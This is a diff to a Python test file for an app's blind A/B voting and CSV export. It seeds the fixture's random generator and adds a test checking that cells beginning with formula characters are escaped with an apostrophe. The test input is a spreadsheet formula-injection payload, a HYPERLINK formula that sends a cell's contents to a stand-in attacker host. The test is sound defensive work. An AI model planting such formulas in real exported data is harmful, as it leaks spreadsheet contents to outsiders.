@@ -1,7 +1,7 @@
 """The app's handlers with the real engine and a real SQLite file (no server needed)."""
 import csv
 import json
-import sqlite3
+import random
 from types import SimpleNamespace
 
 import pytest
@@ -16,7 +16,7 @@ TAB = SimpleNamespace(session_hash="tab-1")
 
 @pytest.fixture
 def studio(engine, tmp_path):
-    s = Studio(engine, UserStore(tmp_path / "c.db"))
+    s = Studio(engine, UserStore(tmp_path / "c.db"), rng=random.Random(0))  # seeded: both sides come up in 6 trials
     s.load_persona(KENJI)
     return s
 
@@ -250,6 +250,14 @@ def test_blind_ab_vote_results_and_csv(studio):
     with open(studio.votes_csv(), newline="", encoding="utf-8") as f:
         votes = list(csv.DictReader(f))
     assert len(votes) == 6 and json.loads(votes[0]["params"])["T"] == 20
+
+
+def test_votes_csv_does_not_carry_formulas(studio):
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
+    studio.rate(formula, KENJI, "hi", "+1", "@SUM(A1)", "A", "A")
+    with open(studio.votes_csv(), newline="", encoding="utf-8") as f:
+        row = list(csv.DictReader(f))[-1]
+    assert row["rater"] == "'" + formula and row["answer_a"] == "'+1" and row["answer_b"] == "'@SUM(A1)"
 
 
 def test_parameter_explorer_flags_word_salad_and_runs_equal_C_once(studio):
